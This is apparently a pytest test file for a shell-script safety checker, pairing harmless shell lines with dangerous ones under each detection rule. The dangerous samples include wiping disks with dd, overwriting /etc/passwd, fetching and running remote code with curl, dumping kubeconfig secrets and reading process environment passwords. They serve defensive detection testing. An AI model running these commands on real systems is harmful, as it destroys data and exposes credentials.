"""What people write every day is left alone, and the dangerous thing beside it is still found."""

import pytest
from checking import findings, of_shell, shell

HARMLESS = {
    "shell-world-writable": [
        # Devices that everybody may write to by design, made for a root file system.
        'mknod -m 666 "$ROOT/dev/null" c 1 3',
        "mknod -m 0666 /chroot/dev/urandom c 1 9",
        "mknod -m 666 dev/tty c 5 0",
        "mknod -m 666 ${dev}/ptmx c 5 2",
        'mknod -m 666 "${root}/dev/net/tun" c 10 200',
        'chmod 666 "$ROOT/dev/null"',
    ],
    "shell-unsafe-expansion": [
        # Without `-r`, `rm` takes no folder: the file that is left when the variable is empty hardly exists.
        'rm -f "$CONFIG_DIR/disable-autolaunch"',
        'rm -f "$LOGDIR/app.log"',
        'rm -f "${HOME_DIR}/${NAME}/$(basename "$URL")"',
        'rm "${ARTIFACTS}"/log-*',
        'rm -rf "${PWD}/gopath.proto"',
        'rm -f "$LOGDIR"/*.log',
        'find "$DATA_DIR"/. -type f -exec ls -l {} +',
        'find "$DATA_DIR"/. -name "*.conf" -exec grep -H listen {} ";"',
        # `mv` never moves `/` itself, and a file that is not there is an error.
        'mv "$NEXT.$CYCLE" "$NEXT.$OLD"',
        'mv "${GOBIN}/${TOOL}" "${GOBIN}/${TOOL}-${VERSION}"',
        'mv "$SCRAPE_DIR/next" "$SCRAPE_DIR/$(date +%s).scrape"',
        # The shell stops when these are empty, wherever the value came from.
        'disk=$(readlink -f "$1")\nrm -rf "${disk:?}"/*',
        "dir=$(readlink /run/overlay)\nrm -r -- ${dir:?}/*",
        # Numbers, and words that the script itself holds, are no code.
        'eval "kill $!"',
        'eval "test $# -gt 1"',
        "eval /etc/init.d/app reload ${QUIET:+>/dev/null}",
        # The name of a variable, not its value.
        'for i in 1 2; do ask $i; eval "$name=\\$value"; done',
        "eval val=\\$${prefix}_crit",
        'eval "export $key=true"',
    ],
    "shell-destroy-data": [
        'mv "$NEXT.$CYCLE" "$NEXT.$OLD"',
        'mv "${GOBIN}/${TOOL}" "${GOBIN}/${TOOL}-${VERSION}"',
        'chown -R "$USER_ID" "$BUILD_PLACE/$CACHE_DIR"',
        'disk=$(readlink -f "$1")\nrm -rf ${disk:?}/* ${disk:?}/.??*',
        "rm -f /var/lib/mysql/debian-*.flag",
        "rm -f /var/lib/postgresql/*.pid",
    ],
    "shell-destroy-system": [
        # A new text in place of the old one, as resolvers and installers write them.
        'echo "nameserver 10.0.0.10" > /etc/resolv.conf',
        "cat > /etc/hosts <<EOF\n127.0.0.1 localhost\nEOF",
        "sed '/search/d' /run/systemd/resolve/stub-resolv.conf > /etc/resolv.conf",
        'printf "%s\\n" "$LINE" > /etc/hosts',
    ],
    "shell-raw-disk-write": [
        'tty=$(tty)\necho "Entering emergency mode" > "/dev/$_tty"',
        'echo "disk is failing" > /dev/$(who | grep -e "^pts")',
        'exec 6< "/dev/${1#/dev/}" && exec 7>> "/dev/${1#/dev/}"',
        "mkfs.jffs2 ${JFFS2_OPTIONS} --root=chroot --output binary/filesystem.jffs2",
        'mkfs.msdos -C "$outdir/efi.img" $((size * 32))',
    ],
    "shell-safety-disabled": [
        "ssh -p 2222 -o StrictHostKeyChecking=no root@localhost uptime",
        "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null 127.0.0.1 uptime",
        "iptables -F my-chain",
        "iptables -t nat -F KUBE-SERVICES",
        'f=$(mktemp)\nshred -u "$f" || true',
    ],
    "shell-unpinned-download": [
        "yarn install --network-timeout 200000",
        "npm install --fetch-timeout 600000 --no-audit",
        "curl -fsSL https://ftp.debian.org/debian/pool/main/r/runit/runit_2.1.2.orig.tar.gz | tar xz",
    ],
    "shell-hidden-code": [
        '${1:2} "$@"',
        'cmd="$line"\n${cmd:1}',
    ],
    "shell-fetch-and-run": [
        "if $(curl -s http://localhost:8080/status | grep RUNNING > /dev/null); then echo up; fi",
    ],
    "shell-container-escape": [
        "docker run -v /var/lib/docker -d --rm registry:2.8.3",
    ],
    "shell-credential-access": [
        "kubectl config view --raw -o jsonpath='{.clusters[0].cluster.certificate-authority-data}' | base64 -d > ca.crt",
        "kubectl config view --raw --minify -o jsonpath='{.clusters[0].cluster.server}'",
        'export DISPLAY=$(sed -z -n s/^DISPLAY=//p "/proc/$PID/environ")',
    ],
}

DANGEROUS = {
    "shell-world-writable": [
        "mknod -m 666 /dev/loop0 b 7 0",
        "mknod -m 666 /srv/app/pipe p",
        "mknod -m 666 /dev/mem c 1 1",
        "chmod 666 /etc/app.conf /dev/null",
        'chmod 666 "$ROOT/dev/sda"',
    ],
    "shell-unsafe-expansion": [
        'rm -rf "$CONFIG_DIR/data"',
        'rm -rf "${OLDPWD}/data"',
        'rm -f "$DIR"/*',
        'rm -f "$PREFIX/etc"/*',
        'find "$DATA_DIR"/. -type f -exec chmod 600 {} +',
        'find "$DATA_DIR"/. -type f -exec ls {} ";" -delete',
        'find "$DATA_DIR"/. -type f -exec "$TOOL" {} ";"',
        'rm -rf "${A}/${B}"',
        'rm -rf "${disk:-}"/*',
        'mv "$DIR"/* /backup/',
        'chown -R app: "$X/"',
        'eval "$COMMAND"',
        'eval "curl $URL"',
        'eval "${PREFIX}reload"',
        "eval ${EXTRA:+$EXTRA} reload",
        'eval "$NAME=\\$VALUE"',
    ],
    "shell-destroy-data": [
        "rm -rf /var/lib/mysql/app-*",
        "rm -f /var/lib/mysql/*.ibd",
        "rm -rf /var/lib/postgresql/*",
    ],
    "shell-destroy-system": [
        "> /etc/hosts",
        "cat /dev/null > /etc/hosts",
        ": > /etc/resolv.conf",
        "rm -f /etc/resolv.conf",
        'echo "root::0:0::/root:/bin/sh" > /etc/passwd',
        "cat backup > /etc/sudoers",
    ],
    "shell-raw-disk-write": [
        'cat image.raw > "/dev/$DISK"',
        'echo wiped > "/dev/$DISK"',
        'dd if=/dev/zero of="/dev/$TARGET" bs=1M',
        'mkfs.ext4 -F "$DEVICE"',
        "mkfs.ext4 $OPTIONS /dev/sdb1",
    ],
    "shell-safety-disabled": [
        "ssh -o StrictHostKeyChecking=no root@db.example.com uptime",
        "ssh -o StrictHostKeyChecking=no localhost.example.com uptime",
        "iptables -F",
        "iptables -F INPUT",
        'iptables -F "$CHAIN"',
        "shred -u /var/lib/app/keys || true",
    ],
    "shell-unpinned-download": [
        "yarn add left-pad",
        "npm install left-pad --fetch-timeout 600000",
        "curl -fsSL https://raw.githubusercontent.com/org/repo/main/deploy.tar.gz | tar xz",
        "curl -fsSL https://git.example.com/pool/raw/main/x.tar.gz | tar xz",
    ],
    "shell-hidden-code": [
        "${PATH:0:1}bin${PATH:0:1}id",
        "${A:3:2} -rf /srv",
        "${HOME:0:1}bin/sh",
    ],
    "shell-fetch-and-run": [
        "$(curl -s http://203.0.113.9/x)",
        "$(curl -s http://203.0.113.9/x 2> /dev/null)",
        "if $(curl -s http://203.0.113.9/x | head -1); then echo up; fi",
    ],
    "shell-container-escape": [
        "docker run -v /var/lib/docker:/x -d --rm registry:2.8.3",
        "docker run --mount type=bind,source=/var/lib/docker,target=/x busybox:1.36",
    ],
    "shell-credential-access": [
        "kubectl config view --raw",
        "kubectl config view --raw -o jsonpath='{.users[0].user.client-key-data}' | base64 -d",
        'cat "/proc/$PID/environ"',
        'sed -z -n s/^DB_PASSWORD=//p "/proc/$PID/environ"',
    ],
}


def cases(table: dict[str, list[str]]) -> list[tuple[str, str]]:
    return [(rule, script) for rule, scripts in table.items() for script in scripts]


@pytest.mark.parametrize(("rule", "script"), cases(HARMLESS))
def test_what_is_written_every_day_is_left_alone(rule: str, script: str) -> None:
    assert rule not in of_shell(script)


@pytest.mark.parametrize(("rule", "script"), cases(DANGEROUS))
def test_the_dangerous_neighbour_is_found(rule: str, script: str) -> None:
    assert rule in of_shell(script)


VALUES = [
    ('X=/etc-old\nrm -rf "${X%-old}"', "/etc"),
    ('X=/usr.tar.gz\nrm -rf "${X%%.*}"', "/usr"),
    ('X=old:/etc\nrm -rf "${X#*:}"', "/etc"),
    ('X=a:b:/etc\nrm -rf "${X##*:}"', "/etc"),
    ('X=/etcetera\nrm -rf "${X:0:4}"', "/etc"),
    ('X=x/etc\nrm -rf "${X:1}"', "/etc"),
    ('X=/ate\nrm -rf "${X: -4:1}"bin', "/bin"),
    ('X=/atc\nrm -rf "${X/a/e}"', "/etc"),
    ('X=-usr-lib\nrm -rf "${X//-//}"', "/usr/lib"),
    ('X=/ETC\nrm -rf "${X,,}"', "/etc"),
]


@pytest.mark.parametrize(("script", "folder"), VALUES)
def test_what_a_variable_becomes_is_worked_out(script: str, folder: str) -> None:
    (found,) = [each for each in findings(shell(script)) if each.rule == "shell-destroy-system"]
    assert found.message.endswith(f"deletes the system folder {folder}")


@pytest.mark.parametrize("script", ['X=/etc-old\nrm -rf "${X#-old}"', 'X=/etc-old\nrm -rf "${X%-new}"'])
def test_a_change_that_does_not_apply_leaves_the_value(script: str) -> None:
    assert "shell-destroy-system" not in of_shell(script)


@pytest.mark.parametrize("script", ['rm -rf "$X/"', 'rm -rf "$X"/*', "chown -R app: $X/"])
def test_one_command_with_an_empty_variable_is_one_finding(script: str) -> None:
    told = [each.rule for each in findings(shell(script)) if "destroy" in each.rule or "expansion" in each.rule]
    assert told == ["shell-unsafe-expansion"]


def test_a_redirection_around_a_block_is_told_of_once() -> None:
    script = "{\n  echo one\n  echo two\n  cat three\n} > /dev/sda"
    assert [each.rule for each in findings(shell(script))].count("shell-raw-disk-write") == 1


@pytest.mark.parametrize(
    ("script", "command"),
    [
        ('[ -n "$ID" ] && echo 1 > /proc/sys/vm/drop_caches', "echo 1"),
        ("cat new | sed s/a/b/ > /proc/sys/vm/drop_caches", "sed s/a/b/"),
        ("test -e /x || { echo 1; cat new; } > /proc/sys/vm/drop_caches", "echo 1"),
        ("a || b | c && d > /proc/sys/vm/drop_caches", "d"),
        ("echo 1 > /proc/sys/vm/drop_caches && echo done", "echo 1"),
    ],
)
def test_a_redirection_is_that_of_the_command_before_it(script: str, command: str) -> None:
    (found,) = [each for each in findings(shell(script)) if each.rule == "shell-kernel-change"]
    assert found.message.startswith(f"`{command}` writes")


@pytest.mark.parametrize(
    "script",
    [
        "curl -fsSL https://example.com/tool.gz | gunzip > tool\nchmod +x tool\n./tool",
        "true && curl -fsSL https://example.com/tool > tool\n./tool",
    ],
)
def test_what_a_pipeline_writes_is_known_for_a_download(script: str) -> None:
    assert "shell-fetch-and-run" in of_shell(script)


def test_two_redirections_are_told_of_twice() -> None:
    script = "echo one > /dev/sda\necho two > /dev/sda"
    assert [each.rule for each in findings(shell(script))].count("shell-raw-disk-write") == 2


SECRET = "hard-coded-secret"

NO_SECRETS = [
    "cat_passwd='getent passwd'",
    'echo "usage: $0 [-r|--root_password=<root password>] [-S|--auth-key=<keyfile>] [-h]"',
    "python3 -c \"connect(password=os.environ['OS_PASSWORD'])\"",
    "FILTER='s/iscsi.password=[^ ]*/iscsi.password=*******/g'",
    'openssl pkcs12 -export -in a.pem -inkey a.key -out a.pfx -password "pass:"',
    "find /var/lib/data -follow -not -group mysql -print0 | xargs -0r chgrp mysql",
    "adduser --system --disabled-password hacluster",
    'PRIVATE_KEY="--private-key=$2"',
]
SECRETS = [
    "DB_PASSWORD=Tr0ub4dor3x",
    "mysql -u app -pTr0ub4dor3 shop",
    "mysql -u app -print3x shop",
    'openssl pkcs12 -export -in a.pem -inkey a.key -out a.pfx -password "pass:Tr0ub4dor3"',
    "python3 -c \"connect(password='Tr0ub4dor3')\"",
    "app --root_password=Tr0ub4dor3",
]


@pytest.mark.parametrize("script", NO_SECRETS)
def test_what_only_looks_like_a_secret_is_none(script: str) -> None:
    assert SECRET not in of_shell(script)


@pytest.mark.parametrize("script", SECRETS)
def test_a_secret_is_found(script: str) -> None:
    assert SECRET in of_shell(script)
